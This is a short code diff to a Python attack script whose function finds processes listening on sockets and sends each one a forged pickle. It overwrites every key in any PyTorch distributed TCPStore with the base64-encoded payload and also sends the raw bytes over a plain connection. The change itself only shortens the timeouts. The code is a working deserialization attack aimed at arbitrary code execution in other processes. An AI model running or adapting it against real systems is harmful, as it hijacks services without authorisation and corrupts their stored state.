@@ -68,13 +68,13 @@ def listening(process: psutil.Process) -> set[Address]:
 def attack(address: Address, forged: bytes) -> None:
     """Hand a pickle to whatever listens there: as a value of a store of torch's, and as it is."""
     try:
-        store = dist.TCPStore(*address, is_master=False, timeout=timedelta(seconds=5), wait_for_workers=False)
+        store = dist.TCPStore(*address, is_master=False, timeout=timedelta(seconds=1), wait_for_workers=False)
         for key in store.list_keys():
             store.set(key, b64encode(forged).decode())
     except (dist.DistError, RuntimeError):  # nothing of torch's, or it hung up
         pass
     try:
-        with socket.create_connection(address, timeout=10) as connection:
+        with socket.create_connection(address, timeout=2) as connection:
             connection.sendall(forged)
     except OSError:  # it has ended
         pass
